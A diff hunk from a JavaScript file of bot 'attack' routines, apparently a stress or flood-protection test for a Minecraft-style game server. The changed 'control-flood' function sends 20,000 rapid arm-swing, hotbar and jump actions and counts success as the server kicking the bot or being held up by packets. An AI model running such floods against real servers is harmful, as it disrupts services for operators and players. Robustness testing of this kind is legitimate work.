@@ -137,7 +137,7 @@ async function attack (bot) { for (let i = 0; ; i++) { bot.blockAt(new Vec3(i, -
 
 // attack control-flood
 // success: the server sends the bot away, or the host is held up by packets
-async function attack (bot) { for (let i = 0; i < 20000; i++) { try { bot.swingArm(); bot.setQuickBarSlot(i % 9); bot.setControlState('jump', i % 2 === 0) } catch {} } await bot.waitForTicks(5) }
+async function attack (bot) { for (let i = 1; i <= 20000; i++) { try { bot.swingArm(); bot.setQuickBarSlot(i % 9); bot.setControlState('jump', i % 2 === 0) } catch {} if (i % 1000 === 0) await bot.waitForTicks(1) } await bot.waitForTicks(5) }
 
 // attack look-flood
 // success: the server sends the bot away, or the host is held up by packets
